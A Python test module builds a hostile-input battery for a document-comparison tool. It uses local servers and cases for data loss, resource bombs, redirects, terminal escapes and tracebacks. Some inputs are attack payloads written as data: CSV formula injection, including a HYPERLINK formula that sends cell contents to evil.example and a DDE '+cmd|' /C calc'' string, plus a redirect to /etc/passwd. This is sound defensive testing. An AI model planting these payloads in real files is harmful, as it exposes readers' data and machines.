"""The cases of the hostile-input battery (``tests/hostile_battery.py``), by class.

Every input is made here, in a temporary folder, by ``hostile_inputs``; the web cases are
served by a server on 127.0.0.1 started for the run. Each case has its own copies of the
files it might damage, so the cases can run at once.
"""
from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import resource
import shutil
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import hostile_inputs as hostile
from hostile_battery import ROOT, Case

SEEDS = ROOT / "seeds"
BIG = str(2**64)
CONTROL = (b"\x1b", b"\x07", "\x9b".encode())


class _Handler(BaseHTTPRequestHandler):
    def log_message(self, *args) -> None:
        pass

    def do_GET(self) -> None:  # noqa: N802
        route = self.server.routes.get(self.path)
        if route is None:
            self.send_error(404)
            return
        try:
            route(self)
        except (BrokenPipeError, ConnectionResetError):
            pass


def _answer(status: int, body: bytes = b"", **headers):
    def respond(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(status)
        for key, value in headers.items():
            handler.send_header(key.replace("_", "-"), value)
        if "Content_Length" not in headers:
            handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)
    return respond


def _drip(headers_too: bool):
    def respond(handler: BaseHTTPRequestHandler) -> None:
        handler.wfile.write(b"HTTP/1.1 200 OK\r\n" + (b"" if headers_too else b"Content-Type: text/plain\r\n\r\n"))
        for _ in range(400):  # 2 minutes at most, far past every timeout used
            handler.wfile.write(b"X" if headers_too else b"Witkoff met Putin. ")
            handler.wfile.flush()
            time.sleep(0.3)
    return respond


def _endless(handler: BaseHTTPRequestHandler) -> None:
    handler.send_response(200)
    handler.send_header("Content-Type", "text/plain")
    handler.end_headers()
    for _ in range(10_000):
        handler.wfile.write(b"Witkoff met Putin in Moscow. " * 2000)


class FakeFTP:
    """Counts connections: a refused redirect to ftp:// must make none."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.sendall(b"220 ready\r\n")
            conn.close()


@contextlib.contextmanager
def servers():
    ftp = FakeFTP()
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    httpd.daemon_threads = True
    base = f"http://127.0.0.1:{httpd.server_address[1]}"
    page = hostile.html_page()
    httpd.routes = {
        "/ftp": _answer(302, Location=f"ftp://127.0.0.1:{ftp.port}/pub/a.txt"),
        "/file": _answer(302, Location="file:///etc/passwd"),
        "/js": _answer(302, Location="javascript:alert(1)"),
        "/data": _answer(302, Location="data:text/plain,hello"),
        "/badport": _answer(301, Location="http://127.0.0.1:99999/x"),
        "/drip": _drip(False), "/driphead": _drip(True), "/endless": _endless,
        "/b64": _answer(200, page, Content_Type="text/html; charset=base64"),
        "/huge": _answer(200, b"tiny", Content_Type="text/plain", Content_Length="99999999999"),
        "/loop": _answer(302, Location="/loop2"), "/loop2": _answer(302, Location="/loop"),
    }
    thread = threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield base, ftp
    finally:
        httpd.shutdown()
        httpd.server_close()
        ftp.sock.close()


def ordinary_user(command: list) -> list:
    if os.geteuid() != 0:
        return command
    return ["setpriv", "--bounding-set", "-dac_override,-dac_read_search", "--", *command]


_OUR_COLOURS = re.compile(rb"\x1b\[[0-9;]*m")  # click.style's SGR codes around (escaped) text


def _no_control(outcome) -> str | None:
    stdout = _OUR_COLOURS.sub(b"", outcome.stdout)
    found = [c for c in CONTROL if c in stdout or c.decode("utf-8") in outcome.stderr]
    return f"control characters reached the terminal: {found}" if found else None


def _cells_safe(path: Path):
    def check(outcome) -> str | None:
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
        bad = [cell for row in rows for cell in row
               if cell[:1] in ("=", "+", "-", "@") and not cell.lstrip("+-").replace(".", "").isdigit()]
        return f"formula cells written raw: {bad[:3]}" if bad else None
    return check


class Workspace:
    """Per-case folders with fresh copies of the articles and the library."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.count = 0
        self.master = root / "master"
        self.master.mkdir()
        shutil.copy(SEEDS / "bbc-witkoff-putin-talks.txt", self.master / "a.txt")
        shutil.copy(SEEDS / "translated-witkoff-putin-talks.txt", self.master / "b.txt")
        shutil.copy(SEEDS / "geneva-round.txt", self.master / "c.txt")
        db = self.master / "lib.db"
        for args in (["library", "add", "a.txt", "b.txt", "--db", str(db)], ["library", "compare", "d1", "d2", "--db", str(db)]):
            subprocess.run([sys.executable, "-m", "synopsis", *args], cwd=self.master, check=True,
                           capture_output=True, env=dict(os.environ, LANG="C.UTF-8"))

    def new(self) -> Path:
        self.count += 1
        folder = self.root / f"case{self.count:03d}"
        shutil.copytree(self.master, folder)
        return folder


def make_cases(root: Path):
    """A context manager yielding the cases, with the servers running while they are used."""
    @contextlib.contextmanager
    def managed():
        with servers() as (base, ftp):
            space = Workspace(root)
            yield (data_loss(space) + security(space, base, ftp) + tracebacks(space, base)
                   + bombs(space, base) + messages(space) + app(space) + corpus_scan(space))
    return managed()


def data_loss(space: Workspace) -> list[Case]:
    cases = []
    for how in ("same", "hard link", "symlink"):
        w = space.new()
        out = {"same": w / "a.txt", "hard link": w / "h.txt", "symlink": w / "s.txt"}[how]
        if how == "hard link":
            os.link(w / "a.txt", out)
        if how == "symlink":
            out.symlink_to(w / "a.txt")
        cases.append(Case("data loss", f"compare -o an input ({how})", ["compare", w / "a.txt", w / "b.txt", "-o", out],
                          fragment="is one of the inputs", keep=[w / "a.txt", out]))
    w = space.new()
    cases.append(Case("data loss", "compare many -o an input", ["compare", w / "a.txt", w / "b.txt", w / "c.txt", "-o", w / "c.txt"],
                      fragment="is one of the inputs", keep=[w / "c.txt"]))
    w = space.new()
    cases.append(Case("data loss", "export -o the library", ["library", "export", "c1", "-o", w / "lib.db", "--db", w / "lib.db",
                                                             "--format", "json"], fragment="is the library", keep=[w / "lib.db"]))
    w = space.new()
    (w / "link.json").symlink_to(w / "lib.db")
    cases.append(Case("data loss", "export -o a link to the library", ["library", "export", "c1", "-o", w / "link.json", "--db", w / "lib.db"],
                      fragment="is the library", keep=[w / "lib.db", w / "link.json"]))
    w = space.new()
    shutil.copy(w / "lib.db", w / "other.db")
    cases.append(Case("data loss", "export -o another library", ["library", "export", "c1", "-o", w / "other.db", "--db", w / "lib.db",
                                                                 "--format", "json"], fragment="SQLite database", keep=[w / "other.db"]))
    w = space.new()
    # devices through links in the case's folder: were writing ever to replace what it is given
    # again, it would replace these links (and be seen), not the system's /dev/null or /dev/stdout
    (w / "null").symlink_to("/dev/null")
    cases.append(Case("data loss", "-o /dev/null", ["compare", w / "a.txt", w / "b.txt", "-o", w / "null", "--format", "json"],
                      expect="ok", keep=[w / "null", Path("/dev/null")]))
    w = space.new()
    os.mkfifo(w / "fifo")
    # A blocking open of a FIFO nobody reads never returns: the default limit catches that hang
    # while leaving room for a slow start on a loaded machine.
    cases.append(Case("data loss", "-o a FIFO nobody reads", ["compare", w / "a.txt", w / "b.txt", "-o", w / "fifo", "--format", "json"],
                      fragment="FIFO", keep=[w / "fifo"]))
    w = space.new()
    (w / "out.json").write_text("old", encoding="utf-8")
    (w / "report.json").symlink_to(w / "out.json")
    cases.append(Case("data loss", "-o a symlink is written through", ["compare", w / "a.txt", w / "b.txt", "-o", w / "report.json"],
                      expect="ok", keep=[w / "report.json"],
                      check=lambda o, t=w / "out.json": None if t.read_text().startswith("{") else "target not written"))
    w = space.new()
    (w / "stdout").symlink_to("/proc/self/fd/1")
    appended = open(w / "a.txt", "ab")  # noqa: SIM115 - closed with the process's stdout
    cases.append(Case("data loss", "-o /dev/stdout appended to an input", ["compare", w / "a.txt", w / "b.txt", "-o", w / "stdout",
                                                                           "--format", "json"], stdout=appended,
                      fragment="is one of the inputs", keep=[w / "a.txt", w / "stdout"]))
    (w / "log.txt").write_text("kept\n", encoding="utf-8")
    log = open(w / "log.txt", "ab")  # noqa: SIM115
    cases.append(Case("data loss", "-o /dev/stdout appended to a log", ["compare", w / "a.txt", w / "b.txt", "-o", w / "stdout",
                                                                        "--format", "json"], stdout=log, expect="ok", keep=[w / "stdout"],
                      check=lambda o, p=w / "log.txt": None if p.read_text().startswith("kept\n{") else "lost: the log's line"))
    return cases + data_loss_more(space)


def data_loss_more(space: Workspace) -> list[Case]:
    cases = []
    w = space.new()
    for args, name in ((["gui", w / "a.txt", w / "b.txt", "--screenshot", w / "a.txt"], "gui --screenshot an input"),
                       (["matrix", w / "a.txt", w / "b.txt", w / "c.txt", "--screenshot", w / "c.txt"], "matrix --screenshot an input")):
        cases.append(Case("data loss", name, args, fragment="is one of the inputs", keep=[w / "a.txt", w / "c.txt"]))
    w = space.new()
    (w / "kept.json").write_text("kept", encoding="utf-8")
    (w / "kept.json").chmod(0o444)
    cases.append(Case("data loss", "-o a read-only file", ["compare", w / "a.txt", w / "b.txt", "-o", w / "kept.json"],
                      fragment="read-only", keep=[w / "kept.json"], wrap=ordinary_user))
    w = space.new()
    (w / "r.html").write_text("the old report", encoding="utf-8")
    cases.append(Case("data loss", "-o on a disk that fills", ["compare", w / "a.txt", w / "b.txt", "-o", w / "r.html"],
                      fragment="cannot write", keep=[w / "r.html"], preexec=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000)),
                      check=lambda o, w=w: "lost: a temporary file was left" if any(p.name.startswith(".r.html") for p in w.iterdir()) else None))
    cases.append(_full_disk_add(space.new()))
    w = space.new()
    cases.append(Case("data loss", "-o a folder", ["compare", w / "a.txt", w / "b.txt", "-o", w], fragment="directory"))
    return cases


def _full_disk_add(w: Path) -> Case:
    files = []
    for n in range(10):
        path = w / f"doc{n}.txt"
        path.write_text(f"Article {n}. " + " ".join(f"w{n}x{i}" for i in range(9000)) + ".\n", encoding="utf-8")
        files.append(path)
    limit = (w / "lib.db").stat().st_size + 400_000

    def stored_as_said(outcome) -> str | None:
        printed = [line.split("\t")[0] for line in outcome.stdout.decode().splitlines()]
        with sqlite3.connect(w / "lib.db") as conn:
            count = conn.execute("SELECT count(*) FROM documents").fetchone()[0]
        if count != 2 + len(printed):
            return f"lost: {count - 2} documents stored, {len(printed)} reported"
        said = f"{len(printed)} of {len(files)} documents were stored"
        return None if said in outcome.stderr else f"the message does not say {said!r}"

    return Case("data loss", "library add as the disk fills", ["library", "add", *files, "--db", w / "lib.db"],
                preexec=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit)), check=stored_as_said)


def security(space: Workspace, base: str, ftp) -> list[Case]:
    cases = []
    w = space.new()
    for route, scheme in (("/ftp", "ftp:"), ("/file", "file:"), ("/js", "javascript:"), ("/data", "data:")):
        cases.append(Case("security", f"redirect to {scheme}", ["compare", base + route, w / "b.txt"], fragment=f"not {scheme}",
                          check=lambda o: f"the FTP server was contacted {ftp.connections} times" if ftp.connections else None))
    for route in ("/drip", "/driphead"):
        cases.append(Case("security", f"slow drip {route}", ["compare", base + route, w / "b.txt", "--timeout", "2"],
                          fragment="timed out after 2 s", limit=20))
    cases.append(Case("security", "library add, slow drip", ["library", "add", base + "/drip", "--timeout", "2", "--db", w / "lib.db"],
                      fragment="timed out", limit=20, keep=[w / "lib.db"]))
    w = space.new()
    formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")"
    for name, text in (("f1.txt", f"{formula} Witkoff met Putin in Moscow on Tuesday.\n+cmd|' /C calc'!A0 The talks lasted five hours.\n"),
                       ("f2.txt", "-2+3 Witkoff met Putin in Moscow on Tuesday.\n@SUM(1,2) The talks lasted five hours.\n")):
        hostile.write(w / name, text)
    hostile.write(w / "manifest.json", json.dumps({"articles": [{"file": "f1.txt", "outlet": "=cmd|' /C calc'!A0"},
                                                                {"file": "f2.txt", "outlet": "@evil"}]}))
    cases.append(Case("security", "CSV of many sources", ["compare", w / "f1.txt", w / "f2.txt", w / "a.txt", "-o", w / "m.csv"],
                      expect="ok", check=_cells_safe(w / "m.csv")))
    cases.append(Case("security", "CSV of two sources", ["compare", w / "f1.txt", w / "f2.txt", "-o", w / "t.csv"],
                      expect="ok", check=_cells_safe(w / "t.csv")))
    w = space.new()
    hostile.write(w / "evil.txt", hostile.terminal_attack())
    cases.append(Case("security", "OSC escapes in compare", ["compare", w / "evil.txt", w / "b.txt", "--color"], expect="ok", check=_no_control))
    subprocess.run([sys.executable, "-m", "synopsis", "library", "add", w / "evil.txt", "--db", w / "lib.db"], capture_output=True, check=True)
    cases.append(Case("security", "OSC escapes in library show --text", ["library", "show", "d3", "--text", "--db", w / "lib.db"],
                      expect="ok", check=_no_control))
    cases.append(Case("security", "escapes in a file name", ["compare", w / "x\x1b]0;t\x07.txt", w / "b.txt"], fragment="no such file",
                      check=_no_control))
    return cases


def tracebacks(space: Workspace, base: str) -> list[Case]:
    w = space.new()
    hostile.write(w / "broken.odt", hostile.odt_not_xml())
    hostile.write(w / "bomb.pdf", hostile.pdf_bomb())
    hostile.write(w / "b64.html", hostile.html_page(charset="base64"))
    hostile.write(w / "rot.html", hostile.html_page(charset="rot13"))
    raw = os.fsencode(w) + b"/caf\xe9.txt"
    shutil.copy(w / "a.txt", raw)
    cases = [Case("traceback", "ODT content.xml not XML", ["compare", w / "broken.odt", w / "b.txt"], fragment="content.xml"),
             Case("traceback", "PDF past pypdf's limit", ["compare", w / "bomb.pdf", w / "b.txt"], fragment="decompression bomb"),
             Case("traceback", "<meta charset=base64>", ["compare", w / "b64.html", w / "b.txt"], expect="ok"),
             Case("traceback", "<meta charset=rot13>", ["compare", w / "rot.html", w / "b.txt"], expect="ok"),
             Case("traceback", "HTTP charset=base64", ["compare", base + "/b64", w / "b.txt"], expect="ok"),
             Case("traceback", "name not UTF-8, JSON", ["compare", raw, w / "b.txt", "-o", w / "r.json"], expect="ok"),
             Case("traceback", "name not UTF-8, HTML", ["compare", raw, w / "b.txt", "-o", w / "r.html"], expect="ok")]
    db = ["--db", w / "lib.db"]
    for args in (["library", "show", "d" + BIG], ["library", "remove", "c" + BIG], ["library", "export", "c" + BIG, "-o", w / "x.json"],
                 ["library", "compare", "d" + BIG, "d1"], ["library", "cases", "add", "K", "d" + BIG],
                 ["library", "list", "--limit", BIG], ["library", "list", "--offset", BIG], ["compare", "d" + BIG, "d1"],
                 ["library", "show", "d²"], ["library", "cases", "show", "²"]):
        cases.append(Case("traceback", " ".join(map(str, args[:3]))[:40], [*args, *db], keep=[w / "lib.db"]))
    for name, content in (("number", hostile.manifest(5)), ("null", hostile.manifest(None)), ("100,000 deep", hostile.deep_json())):
        m = hostile.write(w / f"m-{name[:4]}.json", content)
        cases.append(Case("traceback", f"manifest articles {name}", ["matrix", w / "a.txt", w / "b.txt", w / "c.txt", "--manifest", m,
                                                                   "--screenshot", w / "m.png"], fragment="manifest"))
    w2 = space.new()
    hostile.write(w2 / "manifest.json", hostile.deep_json())
    cases.append(Case("traceback", "sidecar manifest 100,000 deep", ["compare", w2 / "a.txt", w2 / "b.txt"], expect="ok"))
    cases.append(Case("traceback", "URL http://[::1/x", ["compare", "http://[::1/x", w / "b.txt"], fragment="not a valid address"))
    cases.append(Case("traceback", "standard output full", ["compare", w / "a.txt", w / "b.txt"], stdout="full", fragment="standard output"))
    cases.append(Case("traceback", "standard output full, JSON", ["compare", w / "a.txt", w / "b.txt", "--format", "json"], stdout="full",
                      fragment="standard output"))
    cases.append(Case("traceback", "standard output closed", ["compare", w / "a.txt", w / "b.txt"], stdout="closed", expect="quiet"))
    return cases


def bombs(space: Workspace, base: str) -> list[Case]:
    w = space.new()
    made = {"bomb.docx": hostile.docx_bomb(), "heavy.docx": hostile.docx_xml_heavy(), "many.docx": hostile.zip_many_members(),
            "laughs.docx": hostile.docx_billion_laughs(), "heavy.pdf": hostile.pdf_bomb(40 * hostile.MiB)}
    for name, data in made.items():
        hostile.write(w / name, data)
    small = lambda o: f"{o.max_rss_mb:.0f} MB used to refuse it" if o.max_rss_mb > 400 else None  # noqa: E731
    cases = [Case("resource bomb", name, ["compare", w / name, w / "b.txt"], check=small) for name in made]
    read_end, write_end = os.pipe()
    threading.Thread(target=_yes, args=(write_end,), daemon=True).start()
    cases += [Case("resource bomb", "/dev/zero", ["compare", "/dev/zero", w / "b.txt"], fragment="did not end", check=small),
              Case("resource bomb", "<(yes)", ["compare", f"/dev/fd/{read_end}", w / "b.txt"], fragment="did not end",
                   pass_fds=(read_end,), check=small),
              Case("resource bomb", "endless standard input", ["compare", "-", w / "b.txt"], stdin="endless", fragment="did not end",
                   check=small),
              Case("resource bomb", "search of 20,000 words", ["library", "search", " ".join(["news"] * 20_000), "--db", w / "lib.db"],
                   fragment="the limit is", limit=20),
              Case("resource bomb", "URL without end", ["compare", base + "/endless", w / "b.txt", "--max-size", "1000000"],
                   fragment="limit", check=small),
              Case("resource bomb", "URL claiming 100 GB", ["compare", base + "/huge", w / "b.txt"], fragment="limit")]
    return cases


def _yes(fd: int) -> None:
    try:
        while True:
            os.write(fd, b"y\n" * 32768)
    except OSError:
        pass


def messages(space: Workspace) -> list[Case]:
    w = space.new()
    (w / "loop").symlink_to(w / "loop2")
    (w / "loop2").symlink_to(w / "loop")
    (w / "big.txt").write_bytes(b"word " * 4_200_000 + b"w")
    hostile.write(w / "nul.txt", b"First line.\nSecond line.\nThe\x00third line.\n")
    hostile.write(w / "many.txt", b"".join(b"Line %d says a thing. " % n for n in range(50_001)))
    hostile.write(w / "entity.docx", hostile.docx_with_entity())
    a, b = w / "a.txt", w / "b.txt"
    cases = [Case("message", "symlink loop", ["compare", w / "loop", b], fragment="symbolic link loop"),
             Case("message", "21,000,001 bytes", ["compare", w / "big.txt", b], fragment="21,000,001 bytes"),
             Case("message", "--max-size 10", ["compare", a, b, "--max-size", "10"], fragment="the limit is 10 bytes"),
             Case("message", "--timeout inf", ["compare", a, b, "--timeout", "inf"], fragment="--timeout"),
             Case("message", "port 99999", ["compare", "http://127.0.0.1:99999/x", b], fragment="port must be"),
             Case("message", "a NUL byte", ["compare", w / "nul.txt", b], fragment="line 3, column 4"),
             Case("message", "50,001 sentences", ["compare", w / "many.txt", b], fragment="more than the 50,000"),
             Case("message", "unknown option", ["compare", a, b, "--foo"], fragment="no such option"),
             Case("message", "one source", ["compare", a], fragment="at least two"),
             Case("message", "missing argument", ["library", "show"], fragment="missing argument"),
             Case("message", "unknown command", ["nosuch"], fragment="no such command"),
             Case("message", "DOCX with an XML entity", ["compare", w / "entity.docx", b], fragment="entities"),
             Case("message", "matrix --screenshot into a missing folder", ["matrix", a, b, w / "c.txt", "--screenshot", w / "no" / "m.png"],
                  fragment="does not exist"),
             Case("message", "matrix --screenshot 99999x99999", ["matrix", a, b, w / "c.txt", "--screenshot", w / "m.png", "--size",
                                                                 "99999x99999"], fragment="--size")]
    ro = space.new()
    (ro / "lib.db").chmod(0o444)
    ro.chmod(0o555)
    for args in (["list"], ["search", "Putin"], ["show", "c1"]):
        cases.append(Case("message", f"read-only library: {args[0]}", ["library", *args, "--db", ro / "lib.db"], expect="ok",
                          wrap=ordinary_user, keep=[ro / "lib.db"]))
    cases.append(Case("message", "read-only library: add", ["library", "add", ro / "a.txt", "--db", ro / "lib.db"], fragment="read-only",
                      wrap=ordinary_user, keep=[ro / "lib.db"]))
    return cases


def app(space: Workspace) -> list[Case]:
    w = space.new()
    hostile.write(w / "bad.bin", bytes(range(256)) * 20)
    quiet = lambda o: f"printed on standard error: {o.stderr[:200]!r}" if o.stderr else None  # noqa: E731
    return [Case("app", "error with standard error closed", ["gui", w / "bad.bin", w / "b.txt", "--screenshot", w / "x.png"],
                 stderr="closed", expect="closed-error", limit=60),
            Case("app", "screenshot prints nothing", ["gui", w / "a.txt", w / "b.txt", "--screenshot", w / "s.png"], expect="ok",
                 check=quiet),
            Case("app", "matrix screenshot prints nothing", ["matrix", w / "a.txt", w / "b.txt", w / "c.txt", "--screenshot",
                                                              w / "m.png"], expect="ok", check=quiet),
            Case("app", "gui without a display", ["gui", w / "a.txt", w / "b.txt"], env={"QT_QPA_PLATFORM": None, "DISPLAY": None,
                                                                                           "WAYLAND_DISPLAY": None},
                 fragment="no display")]


def corpus_scan(space: Workspace) -> list[Case]:
    """The corpus scan's own inputs: its output folder, scheduler address, corpus and result files."""
    w = space.new()
    (w / "corpus").mkdir()
    shutil.copy(w / "a.txt", w / "corpus" / "a.txt")
    (w / "out").mkdir()
    (w / "out" / "mine.txt").write_text("the user's own file", encoding="utf-8")
    (w / "bad.parquet").write_bytes(b"PAR1 not really")
    cases = [Case("scan", "scan -o a folder that exists", ["scan", w / "corpus", "-o", w / "out"],
                  fragment="already exists", keep=[w / "out" / "mine.txt"]),
             Case("scan", "scan -o the corpus", ["scan", w / "corpus", "-o", w / "corpus"],
                  fragment="already exists", keep=[w / "corpus" / "a.txt"]),
             Case("scan", "scan -o an input file", ["scan", w / "corpus", "-o", w / "a.txt"],
                  fragment="is a file", keep=[w / "a.txt"]),
             Case("scan", "scan a corrupt Parquet file", ["scan", w / "bad.parquet", "-o", w / "new1"],
                  fragment="Parquet", keep=[w / "bad.parquet"]),
             Case("scan", "scan --result of a plain folder", ["scan", "--result", w / "corpus"],
                  fragment="not a scan result", keep=[w / "corpus" / "a.txt"]),
             Case("scan", "scan --query with an article as the index", ["scan", "--query", w / "a.txt", "--index", w / "b.txt"],
                  fragment="not a scan index", keep=[w / "a.txt", w / "b.txt"])]
    for address in ("tcp://[::1", "tcp://127.0.0.1:99999", "http://127.0.0.1:8786", "tcp://"):
        cases.append(Case("scan", f"scan --scheduler {address}", ["scan", w / "corpus", "-o", w / "new2", "--scheduler", address],
                          fragment=address, limit=30))
    return cases
